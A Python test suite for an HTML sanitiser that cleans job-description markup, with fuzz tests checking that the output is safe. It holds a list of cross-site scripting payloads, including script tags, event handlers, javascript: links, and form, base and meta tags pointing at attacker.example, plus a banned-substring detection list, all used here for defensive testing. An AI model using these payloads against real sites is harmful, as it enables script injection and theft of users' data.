"""HTML sanitising and HTML -> text for job descriptions."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from recruiting.sources.sanitize import (
    clean_field,
    description_to_html,
    html_to_text,
    looks_like_html,
    sanitize_html,
    text_to_html,
)

ALLOWED = {"p", "br", "ul", "ol", "li", "strong", "em", "b", "i", "h2", "h3", "h4", "a"}

HOSTILE_FRAGMENTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<div hx-get="/admin/delete" hx-trigger="load">x</div>',
    '<a href="javascript:alert(1)">j</a>',
    '<a href="  JaVaScRiPt:alert(1)">j</a>',
    '<a href="java&#x09;script:alert(1)">j</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    '<a href="vbscript:msgbox(1)">v</a>',
    '<p style="background:url(javascript:alert(1))" onclick="x()">s</p>',
    "<iframe src=//attacker.example></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<math><mi xlink:href=javascript:alert(1)>m</mi></math>",
    "<!--<script>alert(1)</script>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form action=//attacker.example><input name=p><button>go</button></form>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
    "<style>body{display:none}</style>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://ok.example/" target="_blank" onmouseover="x()">ok</a>',
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    "<p>unclosed <b>bold <i>italic",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div><div><div>deep</div></div></div>",
    "</p></li></ul>stray closers",
    "<h1 class=x id=y>Heading</h1>",
]


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if tag == "a" and name == "href":
                if not re.match(r"^(https?:|mailto:)", value or "", re.IGNORECASE):
                    self.problems.append(f"href {value!r}")
            elif tag == "a" and name == "rel":
                if value != "noopener noreferrer nofollow":
                    self.problems.append(f"rel {value!r}")
            else:
                self.problems.append(f"attribute {name} on <{tag}>")

    def handle_comment(self, data):
        self.problems.append("comment")


def audit(fragment: str, *, substrings: bool = True) -> list[str]:
    """Structural check (tags, attributes, link schemes) plus, optionally, banned substrings.

    Banned substrings are only checked for the fixed hostile inputs: random text may
    legitimately contain words such as "javascript:" as escaped, inert text.
    """
    parser = _Audit()
    parser.feed(fragment)
    parser.close()
    problems = parser.problems
    if not substrings:
        return problems
    lowered = fragment.lower()
    for needle in (
        "<script",
        "onerror",
        "hx-",
        "javascript:",
        "style=",
        "onclick",
        "onload",
        "<iframe",
    ):
        if needle in lowered:
            problems.append(f"substring {needle}")
    return problems


@pytest.mark.parametrize("fragment", HOSTILE_FRAGMENTS)
def test_hostile_fragments_are_neutralised(fragment):
    out = sanitize_html(fragment)
    assert audit(out) == [], out


def test_allowed_markup_survives():
    src = (
        "<h2>Role</h2><p>We <strong>build</strong> <em>things</em> <b>b</b> <i>i</i>.</p>"
        "<ul><li>One</li><li>Two</li></ul><ol><li>First</li></ol><h3>More</h3><h4>Less</h4>"
        '<p>Mail <a href="mailto:jobs@example.com">us</a> or <a href="https://example.com/apply">apply</a>.<br>Thanks</p>'
    )
    out = sanitize_html(src)
    assert out.startswith(
        "<h2>Role</h2><p>We <strong>build</strong> <em>things</em> <b>b</b> <i>i</i>.</p>"
    )
    assert '<a href="https://example.com/apply" rel="noopener noreferrer nofollow">apply</a>' in out
    assert '<a href="mailto:jobs@example.com" rel="noopener noreferrer nofollow">us</a>' in out
    assert "<ol><li>First</li></ol>" in out and "<br>Thanks" in out


def test_relative_links_resolve_against_the_posting_url_or_are_dropped():
    src = '<p><a href="/benefits">Benefits</a></p>'
    assert 'href="https://jobs.example.com/benefits"' in sanitize_html(
        src, base_url="https://jobs.example.com/x/1"
    )
    assert "href" not in sanitize_html(src)


def test_layout_markup_becomes_paragraphs():
    out = sanitize_html(
        "<div>First</div><div>Second <span>part</span></div><section><h1>Big</h1></section>"
    )
    assert out == "<p>First</p><p>Second part</p><h2>Big</h2>"
    assert html_to_text(out) == "First\nSecond part\nBig"


def test_divs_inside_list_items_become_line_breaks():
    out = sanitize_html("<ul><li><div>Python</div><div>Django</div></li></ul>")
    assert out == "<ul><li>Python<br>Django</li></ul>"


def test_text_extraction_decodes_entities_and_splits_blocks():
    html = (
        "<h2>Pay &amp; perks</h2><p>$100k&nbsp;&ndash;&nbsp;$120k</p>"
        "<ul><li>401(k)</li><li>Dental</li></ul>"
    )
    assert html_to_text(html) == "Pay & perks\n$100k – $120k\n401(k)\nDental"


def test_text_to_html_keeps_paragraphs_and_escapes():
    out = text_to_html("Line one\nline two\n\nPara <b>two</b> & more\r\n\r\nThird")
    assert (
        out
        == "<p>Line one<br>line two</p><p>Para &lt;b&gt;two&lt;/b&gt; &amp; more</p><p>Third</p>"
    )
    assert html_to_text(out) == "Line one\nline two\nPara <b>two</b> & more\nThird"


def test_description_to_html_sniffs():
    assert description_to_html("Plain\n\ntext") == "<p>Plain</p><p>text</p>"
    assert description_to_html("<p>Html</p>") == "<p>Html</p>"
    assert description_to_html("<img src=x onerror=alert(1)>visible") == "<p>visible</p>"
    assert description_to_html(None) == "" and description_to_html({"a": 1}) == ""
    assert looks_like_html("<br/>") and not looks_like_html("salary < 50k and > 30k")
    # entities in plain text are decoded, lines are kept
    assert (
        description_to_html("R&amp;D team\nBerlin&nbsp;office")
        == "<p>R&amp;D team<br>Berlin office</p>"
    )


def test_control_characters_and_surrogates_are_removed():
    out = sanitize_html("<p>a\x00b\ud800c\x1fd</p>")
    assert out == "<p>abcd</p>"
    assert clean_field("  Senior\x00  Engineer\n\t(Remote) ") == "Senior Engineer (Remote)"
    assert clean_field("<b>Chef</b> &amp; cook") == "Chef & cook"
    assert clean_field("x" * 500, max_len=10) == "x" * 10
    assert clean_field(None) == "" and clean_field(12) == "12" and clean_field(True) == ""


# --------------------------------------------------------------------------- fuzzing
_fragment = st.one_of(
    st.sampled_from(HOSTILE_FRAGMENTS),
    st.text(max_size=40),
    st.sampled_from(
        [
            "<p>",
            "</p>",
            "<div>",
            "</div>",
            "<li>",
            "<ul>",
            "<a href='",
            "'>",
            "<",
            ">",
            "&",
            "&#",
            '"',
            "'",
            "=",
            "/",
        ]
    ),
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_fragment, max_size=12).map("".join))
# Found by this test: one pass left an empty <p><b></b></p> that the next pass dropped.
@example(
    '<p>unclosed <b>bold <i>italic<div hx-get="/admin/delete" hx-trigger="load">x</div>'
    "<img src=x onerror=alert(1)>"
)
def test_fuzz_sanitizer_output_is_always_safe(src):
    out = sanitize_html(src)
    assert audit(out, substrings=False) == [], out
    assert not re.search(r"<[^>]*\s(on\w+|hx-[\w-]+|style)\s*=", out, re.IGNORECASE), out
    text = html_to_text(out)
    assert "\x00" not in text
    # idempotent: sanitising sanitised output changes nothing
    assert sanitize_html(out) == out


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_fuzz_text_to_html_is_safe_and_round_trips_words(src):
    out = text_to_html(src)
    assert audit(out, substrings=False) == [], out
    words_in = [
        w
        for w in re.split(r"\s+", src)
        if w
        and not re.search(r"[\x00-\x1f\x7f\ud800-\udfff\ufffe\uffff\u200b-\u200d\u2060\ufeff]", w)
    ]
    text = html_to_text(out)
    for word in words_in[:5]:
        assert word in text


def test_tag_soup_past_the_tag_limit_is_read_as_plain_text_and_keeps_its_words():
    from recruiting.sources.sanitize import MAX_HTML_TAGS

    soup = "<ul><li>" * MAX_HTML_TAGS + "Python <script>alert(1)</script> &amp; Django"
    out = description_to_html(soup)
    assert html_to_text(out).endswith("Python alert(1) & Django")
    assert "<script" not in out and "<ul>" not in out
    assert set(re.findall(r"<([a-z0-9]+)", out)) <= ALLOWED


def test_a_description_within_the_tag_limit_keeps_its_structure():
    out = description_to_html("<ul>" + "<li>Python</li>" * 100 + "</ul>")
    assert out.count("<li>") == 100
